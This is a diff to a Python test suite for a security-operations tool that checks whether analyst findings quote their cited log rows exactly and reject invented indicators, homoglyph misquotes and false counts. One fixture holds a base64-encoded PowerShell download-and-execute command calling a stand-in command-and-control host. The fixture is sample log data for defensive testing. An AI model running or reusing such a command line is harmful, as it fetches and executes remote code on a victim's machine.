@@ -1,6 +1,8 @@
 """Findings are believed only as far as the rows say so."""
 
+import base64
 import datetime as dt
+import re
 from dataclasses import replace
 
 import pyarrow as pa
@@ -9,7 +11,8 @@ from hypothesis import given, settings
 from hypothesis import strategies as st
 
 from soc_tui.analysts.cells import cell_text, escape
-from soc_tui.analysts.grounding import ground, refang
+from soc_tui.analysts.cited_rows import refang
+from soc_tui.analysts.grounding import ground
 from soc_tui.model.catalog import Column, KqlType
 from soc_tui.model.finding import (
     Confidence,
@@ -64,7 +67,9 @@ HONEST = ("r1", "CommandLine", "whoami")
         HONEST,
         ("r1", "CommandLine", "cmd /c whoami"),
         ("r1", "Timestamp", "2026-11-24T10:00:00.5Z"),
+        ("r1", "Timestamp", "2026-11-24T10:00"),
         ("r1", "EventId", "4624"),
+        ("r1", "CommandLine", "cmd /c"),
         ("r2", "CommandLine", "example.com/a⟦U+001B⟧[2J"),
         ("r2", "CommandLine", "example.com/a\x1b[2J"),
         ("r3", "CommandLine", "x⏎y"),
@@ -88,7 +93,14 @@ def test_true_quotations_ground_a_finding(quotation: tuple[str, str, str]) -> No
         (("r1-r2", "DeviceName", "ws-01"), "does not exist"),
         (("r2", "DeviceName", "ws-01"), "does not stand in"),
         (("r1", "devicename", "ws-01"), "no column"),
-        (("r1", "CommandLine", "WHOAMI"), "does not stand in"),
+        (("r1", "CommandLine", "WHOAMI"), "letter case or blanks differ"),
+        (("r1", "CommandLine", "cmd  /c"), "letter case or blanks differ"),
+        (("r1", "CommandLine", "whoam"), "or a word is cut"),
+        (("r1", "CommandLine", "whоami"), "CYRILLIC SMALL LETTER O"),
+        (("r1", "RemoteIP", "10.0.0.1"), "or a word is cut"),
+        (("r1", "RemoteIP", "0.0.15"), "or a word is cut"),
+        (("r1", "DeviceName", "10.0.0.15"), "but in «RemoteIP»"),
+        (("r1", "Timestamp", "10:00"), "does not stand in"),
         (("r1", "CommandLine", ""), "empty"),
         (("r1", "CommandLine", " "), "empty"),
         (("r1", "CommandLine", "c"), "too short"),
@@ -176,7 +188,7 @@ def test_a_grounded_quotation_is_always_in_its_cell(row: int, column: Column, qu
         assert quote.strip()
         assert escape(quote) in cell or escape(quote, keep_marks=True) in cell
     elif len(quote.strip()) >= 3 and column.type is KqlType.STRING:
-        assert quote not in cell
+        assert quote not in re.split(r"\W+", cell)
 
 
 @settings(deadline=None)
@@ -190,6 +202,135 @@ def test_invented_things_never_ground(row: str, column: str, text: str, ioc: str
         finding(HONEST, iocs=(Ioc("other", ioc + "☃"),)),
     ]
     assert not any(ground(lie, ROWS).grounded for lie in lies)
+
+
+BASE64 = base64.b64encode(
+    "IEX (New-Object Net.WebClient) 'http://c2.bad.example/a'".encode("utf-16-le")
+)
+LONG = Rows(
+    pa.table(
+        {
+            "DeviceName": ["ws-01", "ws-01"],
+            "CommandLine": [
+                f"powershell -enc {BASE64.decode()} " + "x" * 4_000 + " end of it",
+                '{"sha1":"' + "a" * 40 + '"}',
+            ],
+        }
+    ),
+    (Column("DeviceName", KqlType.STRING), Column("CommandLine", KqlType.STRING)),
+)
+
+
+@pytest.mark.parametrize(
+    ("quote", "good"),
+    [
+        (f"powershell -enc {BASE64.decode()[:30]}", True),  # Base64 is long: cut where it suits
+        ("powershell -enc", True),
+        ("powershell -e", False),
+        ("x" * 200, True),
+        ("powershell -enc ⟦cut 4,000 characters⟧ end of it", True),
+        ("powershell -enc ⟦cut 4,000 characters⟧ beginning of it", False),
+        ("⟦cut 4,000 characters⟧", False),
+    ],
+)
+def test_long_cells_may_be_quoted_in_part(quote: str, good: bool) -> None:
+    grounded = ground(finding(("r1", "CommandLine", quote)), LONG)
+    assert grounded.grounded is good, grounded.doubts
+
+
+def test_part_of_a_hash_is_no_quotation_and_no_indicator() -> None:
+    assert not ground(finding(("r2", "CommandLine", "a" * 32)), LONG).grounded
+    honest = ("r2", "DeviceName", "ws-01")
+    assert ground(finding(honest, iocs=(Ioc("sha1", "A" * 40),)), LONG).grounded
+    assert not ground(finding(honest, iocs=(Ioc("md5", "a" * 32),)), LONG).grounded
+
+
+def test_what_a_cell_holds_as_base64_stands_in_it() -> None:
+    honest = ("r1", "CommandLine", "powershell -enc")
+    assert ground(finding(honest, iocs=(Ioc("domain", "c2.bad.example"),)), LONG).grounded
+    assert not ground(finding(honest, iocs=(Ioc("domain", "c2.bad.exam"),)), LONG).grounded
+
+
+@pytest.mark.parametrize(
+    ("ioc", "doubt"),
+    [
+        (Ioc("ip", "ws-02"), "is no «ip»"),
+        (Ioc("sha256", "ws-02"), "is no «sha256»"),
+        (Ioc("other", "."), "too short"),
+        (Ioc("other", "7"), "too short"),
+        (Ioc("host", "wſ-02"), "stands in no cited row"),  # a long s, which `re` takes for an s
+    ],
+)
+def test_indicators_that_prove_nothing_are_doubted(ioc: Ioc, doubt: str) -> None:
+    grounded = ground(finding(("r2", "DeviceName", "ws-02"), iocs=(ioc,)), ROWS)
+    assert not grounded.grounded
+    assert doubt in grounded.doubts[0]
+
+
+def misquoted(cell: str) -> st.SearchStrategy[str]:
+    """The cell's text as it does not stand there."""
+    ways = (
+        cell[:-1],
+        cell[1:],
+        cell.swapcase(),
+        f"{cell[:3]} {cell[3:]}",
+        f"{cell}x",
+        cell.translate(str.maketrans("aeocpw10", "аеосрѡ١٠")),
+        "",
+        "\t",
+    )
+    words = r"(?<![\w.-])(?:{})(?![\w.-])"
+    return st.sampled_from(
+        [
+            text
+            for text in ways
+            if not text.strip() or not re.search(words.format(re.escape(text)), cell)
+        ]
+    )
+
+
+@st.composite
+def lies(draw: st.DrawFn) -> tuple[str, Finding]:
+    """What kind of lie, and an otherwise honest finding that has it."""
+    row = draw(st.integers(0, 1))
+    column = draw(st.sampled_from([one for one in COLUMNS if one.type is not KqlType.DYNAMIC]))
+    cell = cell_text(TABLE.column(column.name)[row].as_py(), column.type)
+    address = "198.51." + ".".join(str(draw(st.integers(1, 250))) for _ in range(2))
+    hex_digits = draw(st.text("0123456789abcdef", min_size=32, max_size=32))
+    missing, more = f"r{draw(st.integers(4, 99))}", f"10.0.0.15{draw(st.integers(0, 9))}"
+    honest, here, there = finding(HONEST), row_id(row), row_id(1 - row)
+    kinds = {
+        "row that is not there": finding(HONEST, (missing, column.name, cell)),
+        "cell of another row": finding((there, column.name, cell)),
+        "cell of another column": finding((here, "Details", cell)),
+        "misquoted": finding((here, column.name, draw(misquoted(cell)))),
+        "no quotation": replace(honest, evidence=(Evidence("r1"),)),
+        "indicator": finding(HONEST, iocs=(Ioc("ip", address),)),
+        "longer indicator": finding(HONEST, iocs=(Ioc("ip", more),)),
+        "shorter indicator": finding(HONEST, iocs=(Ioc("ip", "10.0.0.1"),)),
+        "address in the text": replace(honest, description=f"It called {address}."),
+        "hash in the title": replace(honest, title=f"Malware {hex_digits}"),
+        "account": replace(honest, title="Sign-in of mallory@corp.example.com"),
+        "domain": replace(honest, description="It fetched bad.example.com/x."),
+        "host of another row": replace(honest, description="dc-01 was reached."),
+        "invented host": replace(honest, description="On host srv-99 it ran."),
+        "advice": replace(honest, recommendations=(f"Block {address}.",)),
+        "count": replace(honest, description=f"{draw(st.integers(4, 10**6)):,} failed logons."),
+        "technique": finding(HONEST, mitre=(Mitre("", f"T{draw(st.integers(3000, 9999))}"),)),
+    }  # fmt: skip
+    kind = draw(st.sampled_from(sorted(kinds)))
+    return kind, kinds[kind]
+
+
+@settings(deadline=None, max_examples=300)
+@given(lies())
+def test_a_finding_that_lies_in_any_way_is_unverified_with_a_reason(
+    lie: tuple[str, Finding],
+) -> None:
+    kind, told = lie
+    grounded = ground(told, ROWS)
+    assert not grounded.grounded, kind
+    assert grounded.doubts and all(doubt.endswith(".") for doubt in grounded.doubts)
 
 
 @settings(deadline=None)
